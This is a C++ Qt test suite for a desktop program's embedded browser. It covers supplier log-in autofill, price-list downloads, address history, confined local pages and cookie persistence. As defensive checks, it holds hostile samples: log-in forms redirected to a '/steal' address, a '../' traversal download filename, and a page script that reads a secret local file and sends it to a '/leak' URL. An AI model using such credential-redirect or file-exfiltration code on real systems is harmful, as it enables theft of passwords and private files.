// The browser screen against pages of a local web server: the member log-in goes only to the
// supplier's own https site and is sent once; the address list keeps each address once; the
// program's own pages shown there stay confined.
#include "support/core/ScriptedPrompts.h"
#include "support/core/TestProgramFolder.h"
#include "ui/browser/BrowserProfile.h"
#include "ui/browser/FrmBrowser.h"
#include "ui/browser/LocalWebServer.h"
#include "ui/browser/WebEngineProfiles.h"
#include "ui/browser/WebEngineView.h"

#include <QComboBox>
#include <QFile>
#include <QLineEdit>
#include <QProcess>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTemporaryFile>
#include <QTest>
#include <QUrlQuery>
#include <QWebEngineCertificateError>
#include <QWebEnginePage>
#include <memory>

using namespace Qt::Literals::StringLiterals;
using namespace tovin;
using namespace tovin::test;

namespace {

const QByteArray LoginTitle = "KVB | MEMBERS DIRECTORY | MEMBER LOGIN";
const QByteArray NearTitle = "KVB | MEMBERS DIRECTORY | MEMBER LOGIn";

QByteArray page(const QByteArray& title, const QByteArray& body = {}, const QByteArray& head = {}) {
    return "<html><head><title>" + title + "</title>" + head + "</head><body>" + body +
           "</body></html>";
}

// The supplier's shop: its log-in page (or one whose title is off by a character), the
// members' page behind it for the right name and password, and plain pages. The log-in page
// "/login?action=A" has a form sending to A, "/login?base=B" a <base> of B and "/login?field=F"
// one more field named F.
LocalWebServer::Reply shop(const LocalWebServer::Request& request) {
    const QUrlQuery query(QString::fromLatin1(request.path.mid(request.path.indexOf('?') + 1)));
    const auto item = [&](const char* name) {
        return query.queryItemValue(QString::fromLatin1(name), QUrl::FullyDecoded).toUtf8();
    };
    const QByteArray action = item("action").isEmpty() ? QByteArray("/login") : item("action");
    const QByteArray extra = item("field").isEmpty()
                                 ? QByteArray()
                                 : "<input type='hidden' name='" + item("field") + "' value='1'>";
    const QByteArray form = "<form method='post' action='" + action + "'>" + extra +
                            "<input name='MemberNo'><input name='PassWord' type='password'>"
                            "<input type='submit' name='submit' value='Log in'></form>";
    if (request.path.startsWith("/login?") && request.method == "GET")
        return {page(LoginTitle, form,
                     item("base").isEmpty() ? QByteArray() : "<base href='" + item("base") + "'>")};
    if (request.path == "/login" && request.method == "POST") {
        if (request.body.contains("MemberNo=maplelane") && request.body.contains("PassWord=right"))
            return {page("Members", "<p>Welcome</p>")};
        return {page(LoginTitle, form)};
    }
    if (request.path == "/login")
        return {page(LoginTitle, form)};
    if (request.path == "/prices") {
        LocalWebServer::Reply reply("AB7\tPorcelain Bud Vase\t4.25\r\n");
        reply.contentType = "text/plain";
        reply.extraHeaders = "Content-Disposition: attachment; filename=\"../wp-cd.txt\"\r\n";
        return reply;
    }
    if (request.path == "/remember") {
        LocalWebServer::Reply reply(page("Remembered"));
        reply.extraHeaders = "Set-Cookie: tovinshop=maplelane; Max-Age=86400; Path=/; Secure\r\n";
        return reply;
    }
    if (request.path == "/near")
        return {page(NearTitle, form)};
    return {page("Page " + request.path.mid(1))};
}

} // namespace

class FrmBrowserTest : public QObject {
    Q_OBJECT
    PromptsInUse m_promptsInUse;

    QTemporaryDir m_dir;
    QSslCertificate m_certificate;
    QSslKey m_key;
    std::unique_ptr<LocalWebServer> m_https;
    std::unique_ptr<LocalWebServer> m_http;
    // The shop and member log-in the browser screens are given; each test starts with none.
    SupplierShopLogin m_shop;

    // The test's https or http server, by the address's scheme, and the address with its port.
    LocalWebServer& server(const QString& url) {
        return QUrl(url).scheme() == u"https"_s ? *m_https : *m_http;
    }
    QString onServer(const QString& url) {
        QUrl address(url);
        address.setPort(server(url).serverPort());
        return address.toString();
    }

    // A browser screen opened on an address, accepting the test's own certificate only, and a
    // spy on the pages it has checked for the log-in.
    std::pair<std::unique_ptr<FrmBrowser>, std::unique_ptr<QSignalSpy>>
    openBrowser(const QString& start) {
        m_shop.address = start;
        auto browser = std::make_unique<FrmBrowser>(TestProgramFolder::current().catalogue(),
                                                    m_promptsInUse, m_shop);
        connect(browser->webPage(), &QWebEnginePage::certificateError, browser.get(),
                [this](const QWebEngineCertificateError& error) {
                    QWebEngineCertificateError answer = error;
                    if (error.certificateChain().value(0) == m_certificate)
                        answer.acceptCertificate();
                    else
                        answer.rejectCertificate();
                });
        auto checked = std::make_unique<QSignalSpy>(browser.get(), &FrmBrowser::loginChecked);
        browser->show();
        return {std::move(browser), std::move(checked)};
    }

    // Types an address into the address box and presses Enter, as a user does.
    static void go(FrmBrowser& browser, const QString& address) {
        QLineEdit* edit = browser.addressBox()->lineEdit();
        edit->selectAll();
        QTest::keyClicks(edit, address);
        QTest::keyClick(edit, Qt::Key_Return);
    }

    bool cookieFileHolds(const QByteArray& value) const {
        QFile file(m_dir.filePath(u"profile/Cookies"_s));
        return file.open(QIODevice::ReadOnly) && file.readAll().contains(value);
    }

    // Log-ins received by both servers, wherever they were sent.
    int posts() const {
        int n = 0;
        for (const LocalWebServer* server : {m_https.get(), m_http.get()})
            for (const LocalWebServer::Request& request : server->requests())
                n += request.method == "POST";
        return n;
    }

    static QString fieldValue(FrmBrowser& browser, const QString& field) {
        QString value = u"?"_s;
        bool done = false;
        browser.page()->runJavaScript(
            u"(function () { var f = document.forms[0]; return f ? f.elements.namedItem('%1').value : ''; })()"_s
                .arg(field),
            [&](const QVariant& v) {
                value = v.toString();
                done = true;
            });
        if (!QTest::qWaitFor([&] { return done; }, 20000))
            return u"no answer"_s;
        return value;
    }

private slots:
    static void initMain() { WebEngineView::prepareApplication(); }

    void init() { m_shop = SupplierShopLogin{}; }

    void initTestCase() {
        QVERIFY(m_dir.isValid());
        const QString cert = m_dir.filePath(u"cert.pem"_s), key = m_dir.filePath(u"key.pem"_s);
        QProcess openssl;
        openssl.start(u"openssl"_s,
                      {u"req"_s, u"-x509"_s, u"-newkey"_s, u"rsa:2048"_s, u"-nodes"_s, u"-keyout"_s,
                       key, u"-out"_s, cert, u"-days"_s, u"2"_s, u"-subj"_s, u"/CN=localhost"_s,
                       u"-addext"_s, u"subjectAltName=DNS:localhost,IP:127.0.0.1"_s});
        QVERIFY(openssl.waitForFinished(60000));
        QCOMPARE(openssl.exitCode(), 0);
        QFile certFile(cert), keyFile(key);
        QVERIFY(certFile.open(QIODevice::ReadOnly) && keyFile.open(QIODevice::ReadOnly));
        m_certificate = QSslCertificate(&certFile);
        m_key = QSslKey(&keyFile, QSsl::Rsa);
        QVERIFY(!m_certificate.isNull() && !m_key.isNull());
        m_https = std::make_unique<LocalWebServer>(shop, m_certificate, m_key);
        m_http = std::make_unique<LocalWebServer>(shop);
        QVERIFY(m_https->isListening() && m_http->isListening());
        BrowserProfile::setStorageFolder(m_dir.filePath(u"profile"_s));
    }

    void memberLogIn_data() {
        QTest::addColumn<QString>("supplier"); // the supplier's address in the settings
        QTest::addColumn<QString>("page");     // the page then opened ({http}, {https}: ports)
        // sent, refused (wrong password), left alone, or elsewhere (the form sends to another
        // site: nothing filled, the user told)
        QTest::addColumn<QString>("outcome");
        const auto row = [](const char* name, const char* supplier, const char* page,
                            const char* outcome) {
            QTest::newRow(name) << QString::fromUtf8(supplier) << QString::fromUtf8(page)
                                << QString::fromUtf8(outcome);
        };
        row("log-in page: filled and sent once", "https://127.0.0.1/", "https://127.0.0.1/login",
            "sent");
        // The engine takes every name under localhost for this machine.
        row("log-in page on a sub-domain of the supplier's host: filled and sent",
            "https://localhost/", "https://members.localhost/login", "sent");
        row("a field named action does not hide where the form sends", "https://127.0.0.1/",
            "https://127.0.0.1/login?field=action", "sent");
        row("title off by one character: left alone", "https://127.0.0.1/",
            "https://127.0.0.1/near", "left");
        row("right title on another host: left alone", "https://127.0.0.1/",
            "https://localhost/login", "left");
        row("plain http: left alone", "http://127.0.0.1/", "http://127.0.0.1/login", "left");
        row("wrong password: filled again, not sent again", "https://127.0.0.1/",
            "https://127.0.0.1/login", "refused");
        row("form sending in clear to this machine: nothing filled", "https://127.0.0.1/",
            "https://127.0.0.1/login?action=http://localhost:{http}/steal", "elsewhere");
        row("form address taken from the page's base elsewhere: nothing filled",
            "https://127.0.0.1/", "https://127.0.0.1/login?base=http://127.0.0.1:{http}/",
            "elsewhere");
    }

    void memberLogIn() {
        QFETCH(QString, supplier);
        QFETCH(QString, page);
        QFETCH(QString, outcome);
        page.replace(u"{http}"_s, QString::number(m_http->serverPort()))
            .replace(u"{https}"_s, QString::number(m_https->serverPort()));
        const bool refused = outcome == u"refused"_s;
        const bool elsewhere = outcome == u"elsewhere"_s;
        const int sent = outcome == u"sent"_s || refused ? 1 : 0; // log-ins the servers receive
        TestProgramFolder folder;
        ScriptedPrompts prompts(m_promptsInUse);
        if (refused || elsewhere)
            prompts.answerMessage(MessageAnswer::Ok);
        m_shop.userName = u"maplelane"_s;
        m_shop.password = refused ? u"wrong"_s : u"right"_s;
        const int postsBefore = posts();
        auto [browser, checked] = openBrowser(onServer(supplier));
        QTRY_COMPARE_WITH_TIMEOUT(checked->size(), 1, 30000);
        checked->clear();
        go(*browser, onServer(page));
        // A log-in that is sent brings the next page; every page is checked once.
        const int pagesChecked = sent > 0 ? 2 : 1;
        QTRY_COMPARE_WITH_TIMEOUT(checked->size(), pagesChecked, 30000);
        if (refused)
            QCOMPARE(checked->last().at(0).value<MemberLogin::Action>(),
                     MemberLogin::Action::FillRefused);
        if (elsewhere)
            QCOMPARE(checked->last().at(1).toString(), u"elsewhere"_s);
        if (outcome == u"sent"_s) {
            QCOMPARE(browser->page()->title(), u"Members"_s);
        } else {
            QCOMPARE(browser->page()->title(),
                     QString::fromLatin1(page.endsWith(u"/near"_s) ? NearTitle : LoginTitle));
            // Only a refused log-in leaves the member name in the form.
            QCOMPARE(fieldValue(*browser, u"MemberNo"_s), refused ? u"maplelane"_s : QString());
            QCOMPARE(fieldValue(*browser, u"PassWord"_s), refused ? u"wrong"_s : QString());
        }
        // One more page of the same site: by the time it shows, any log-in sent again would
        // have reached the site.
        go(*browser, onServer(QUrl(page).resolved(QUrl(u"/after"_s)).toString()));
        QTRY_COMPARE_WITH_TIMEOUT(checked->size(), pagesChecked + 1, 30000);
        QCOMPARE(posts() - postsBefore, sent);
        QCOMPARE(prompts.unanswered(), 0);
        QCOMPARE(prompts.shown().size(), refused || elsewhere ? 1 : 0);
        if (refused)
            QVERIFY(prompts.shownTexts().first().startsWith(
                u"The supplier's web site refused the member name or password."_s));
        if (elsewhere)
            QCOMPARE(prompts.shownTexts().first(),
                     u"The log-in form of this page does not send to the supplier's own secure "
                     u"web site, so the member name and password were not filled in."_s);
    }

    // A supplier's price list lands in the program folder's Supplier folder, under its own
    // name only (never a folder the site names), and the user is told where. An earlier file
    // of that name is replaced only after a Yes.
    void downloadsGoIntoTheSupplierFolder_data() {
        QTest::addColumn<QByteArray>("earlier"); // empty: no earlier file
        QTest::addColumn<int>("answer");         // to "Replace wp-cd.txt?"
        QTest::newRow("new file") << QByteArray() << -1;
        QTest::newRow("earlier file kept") << "old list\r\n"_ba << int(MessageAnswer::No);
        QTest::newRow("earlier file replaced") << "old list\r\n"_ba << int(MessageAnswer::Yes);
    }
    void downloadsGoIntoTheSupplierFolder() {
        QFETCH(QByteArray, earlier);
        QFETCH(int, answer);
        TestProgramFolder folder;
        const QString saved = folder.filePath(u"Supplier/wp-cd.txt"_s);
        // The program folder comes with a price list of that name.
        QFile::remove(saved);
        if (!earlier.isEmpty())
            folder.writeFile(u"Supplier/wp-cd.txt"_s, earlier);
        ScriptedPrompts prompts(m_promptsInUse);
        if (answer >= 0)
            prompts.answerMessage(MessageAnswer(answer));
        const bool kept = answer == int(MessageAnswer::No);
        if (!kept)
            prompts.answerMessage(MessageAnswer::Ok);
        auto [browser, checked] = openBrowser(onServer(u"https://127.0.0.1/a"_s));
        QSignalSpy finished(BrowserProfile::instance(), &BrowserProfile::downloadFinished);
        QTRY_COMPARE_WITH_TIMEOUT(checked->size(), 1, 30000);
        go(*browser, onServer(u"https://127.0.0.1/prices"_s));
        QTRY_COMPARE_WITH_TIMEOUT(finished.size(), 1, 30000);
        QCOMPARE(finished.first().at(0).toString(), saved);
        const QString error = finished.first().at(1).toString();
        QVERIFY2(error.isEmpty() == !kept, qPrintable(error));
        QFile file(saved);
        QVERIFY(file.open(QIODevice::ReadOnly));
        QCOMPARE(file.readAll(), kept ? earlier : QByteArray("AB7\tPorcelain Bud Vase\t4.25\r\n"));
        QStringList shown;
        if (answer >= 0)
            shown << u"Replace wp-cd.txt?"_s;
        if (!kept)
            shown << u"The file was saved as "_s + saved;
        QCOMPARE(prompts.shownTexts(), shown);
        // Nothing half written stays beside it.
        QCOMPARE(QDir(folder.filePath(u"Supplier"_s))
                     .entryList({u"*wp-cd*"_s}, QDir::Files | QDir::Hidden),
                 QStringList{u"wp-cd.txt"_s});
    }

    void addressListKeepsEachAddressOnceLatestFirst() {
        TestProgramFolder folder;
        const QString a = onServer(u"https://127.0.0.1/a"_s);
        const QString b = onServer(u"https://127.0.0.1/b"_s);
        auto [browser, checked] = openBrowser(a);
        QTRY_COMPARE_WITH_TIMEOUT(checked->size(), 1, 30000);
        int pages = 1;
        for (const QString& next : {b, a, b, b}) {
            go(*browser, next);
            ++pages;
            QTRY_COMPARE_WITH_TIMEOUT(checked->size(), pages, 30000);
        }
        QStringList list;
        for (int i = 0; i < browser->addressBox()->count(); ++i)
            list << browser->addressBox()->itemText(i);
        QCOMPARE(list, (QStringList{b, a}));
        QCOMPARE(browser->addressBox()->currentText(), b);
        QCOMPARE(browser->windowTitle(), u"Page b"_s);
    }

    // A page of the program opened in the browser screen (a catalogue page with a supplier's
    // text) runs confined: its script reads no file outside the program folder and cannot send
    // what it has to the network. A web site opened next shows in the browser's own profile,
    // and Back and Forward pass between the two.
    void localPagesAreConfined() {
        TestProgramFolder folder;
        QTemporaryFile secret; // outside the program folder
        QVERIFY(secret.open());
        secret.write("secret-words");
        secret.close();
        QFile local(folder.filePath(u"page.htm"_s));
        QVERIFY(local.open(QIODevice::WriteOnly));
        local.write("<html><head><title>Catalogue</title></head><body>AB7<script>"
                    "function done(t) { var i = new Image();"
                    " i.onload = i.onerror = () => { document.title = 'read ' + t; };"
                    " i.src = 'http://127.0.0.1:" +
                    QByteArray::number(m_http->serverPort()) +
                    "/leak?' + encodeURIComponent(t); }"
                    "var x = new XMLHttpRequest(); x.onload = () => done(x.responseText);"
                    " x.onerror = () => done('blocked');"
                    " try { x.open('GET', '" +
                    QUrl::fromLocalFile(secret.fileName()).toEncoded() +
                    "'); x.send(); } catch (e) { done('blocked'); }"
                    "</script></body></html>");
        local.close();
        const int requestsBefore = int(m_http->requests().size());

        auto [browser, checked] = openBrowser(local.fileName());
        QTRY_VERIFY_WITH_TIMEOUT(browser->page()->title().startsWith(u"read "_s), 30000);
        QCOMPARE(browser->page()->title(), u"read blocked"_s);
        QCOMPARE(browser->page()->profile(), WebEngineProfiles::confined());

        const QString shopPage = onServer(u"https://127.0.0.1/a"_s);
        checked->clear();
        go(*browser, shopPage);
        QTRY_COMPARE_WITH_TIMEOUT(checked->size(), 1, 30000);
        QCOMPARE(browser->page()->title(), u"Page a"_s);
        QCOMPARE(browser->page()->profile(), BrowserProfile::instance());

        browser->tbToolBar_ButtonClick(u"Back"_s);
        QCOMPARE(browser->page()->profile(), WebEngineProfiles::confined());
        QCOMPARE(browser->page()->title(), u"read blocked"_s);
        QCOMPARE(browser->addressBox()->currentText(), local.fileName());
        browser->tbToolBar_ButtonClick(u"Forward"_s);
        QCOMPARE(browser->page()->title(), u"Page a"_s);
        QCOMPARE(browser->addressBox()->currentText(), shopPage);
        // What the page had never reached the network.
        QCOMPARE(m_http->requests().size(), requestsBefore);
    }

    // A cookie a supplier's shop sets is there again in the next run: the profile keeps it in
    // its folder. (Runs last: it ends the profile as the end of a run does.)
    void cookiesAreKeptBetweenRuns() {
        TestProgramFolder folder;
        for (const char* path : {"/remember", "/again"}) {
            auto [browser, checked] =
                openBrowser(onServer(u"https://127.0.0.1"_s + QString::fromLatin1(path)));
            QTRY_COMPARE_WITH_TIMEOUT(checked->size(), 1, 30000);
            browser.reset();
            // The end of the run: the profile writes what it keeps and goes.
            delete BrowserProfile::instance();
            // The engine writes the cookie file in the background; the next run starts once
            // the cookie is in it.
            QTRY_VERIFY_WITH_TIMEOUT(cookieFileHolds("tovinshop"), 60000);
        }
        QByteArray headers;
        for (const LocalWebServer::Request& request : m_https->requests())
            if (request.path == "/again")
                headers = request.headers;
        QVERIFY2(headers.contains("tovinshop=maplelane"), headers.constData());
    }
};

QTEST_MAIN(FrmBrowserTest)
#include "tst_frmbrowser.moc"
